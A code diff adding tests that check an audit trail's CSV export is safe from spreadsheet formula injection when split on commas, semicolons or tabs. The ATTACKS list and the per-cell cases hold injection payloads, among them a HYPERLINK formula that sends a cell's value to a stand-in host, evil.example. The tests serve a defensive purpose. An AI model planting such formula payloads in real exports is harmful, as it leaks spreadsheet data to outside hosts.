@@ -1,6 +1,7 @@
 import Database from 'better-sqlite3';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import { csvField } from '../../src/web/audit.js';
+import { spreadsheetCells } from '../support/csv.js';
 import { APPROVER, basic, OUTSIDER, sha, startHarness, statusCheck, type Harness } from '../support/harness.js';
 
 interface Exported {
@@ -104,5 +105,60 @@ describe('the audit trail', () => {
     expect(csvField('line\nbreak')).toBe('"line\nbreak"');
     expect(csvField(null)).toBe('');
     expect(csvField(42)).toBe('42');
+  });
+});
+
+describe('the CSV export is safe to open in any spreadsheet', () => {
+  let h: Harness;
+  beforeEach(async () => {
+    h = await startHarness();
+  });
+  afterEach(async () => {
+    await h.stop();
+  });
+
+  const FORMULA = /^[=+\-@\t\r]/;
+  const ATTACKS = [';=HYPERLINK("http://evil.example/?"&A1,"details")', 'fine\t=1+1', 'x;+SUM(1)', 'a,@cmd', '-2+3', ' =1'];
+
+  it('no cell becomes a formula whether the spreadsheet splits on commas, semicolons or tabs', async () => {
+    const id = (await h.receive()).body.id as number;
+    await h.slack.waitFor('chat.postMessage');
+    await h.submitReject(APPROVER, id, ATTACKS.join('\n'));
+    await h.gitlab.waitForResponses(1);
+    const res = await fetch(`${h.bot.url}/audit?format=csv`, { headers: { authorization: basic() } });
+    expect(res.status).toBe(200);
+    const text = await res.text();
+    expect(text).toContain('HYPERLINK');
+    for (const delimiter of [',', ';', '\t']) {
+      const rows = spreadsheetCells(text, delimiter);
+      expect(rows.length, delimiter).toBeGreaterThan(2);
+      for (const cell of rows.flat()) expect(FORMULA.test(cell.trimStart()), `${JSON.stringify(delimiter)}: ${cell}`).toBe(false);
+    }
+    // With the comma it was written for, the reason is one cell and reads as written, quote marks aside.
+    const rejected = spreadsheetCells(text, ',').find((r) => r[3] === 'rejected') as string[];
+    expect(rejected).toHaveLength(8);
+    expect(rejected[7]!.replace(/'/g, '')).toBe(ATTACKS.join('\n'));
+  });
+});
+
+describe('one CSV cell', () => {
+  it.each([
+    [';=HYPERLINK("x")', `";'=HYPERLINK(""x"")"`],
+    ['fine, -1', `"fine, '-1"`],
+    ['one\n@two', `"one\n'@two"`],
+    ['a;b', '"a;b"'],
+    ['a\tb', '"a\tb"'],
+    ['=1', "'=1"],
+    ['@SUM(A1)', "'@SUM(A1)"],
+    ['\t=1', `"\t'=1"`],
+    ['\r=1', `"\r'=1"`],
+    ['\tplain', `"'\tplain"`],
+    [';\u00a0=1', `";\u00a0'=1"`],
+    ['  =1', "  '=1"],
+    ['-', "'-"],
+    ['plain text', 'plain text'],
+    ['', ''],
+  ])('%j is written %j', (value, written) => {
+    expect(csvField(value)).toBe(written);
   });
 });
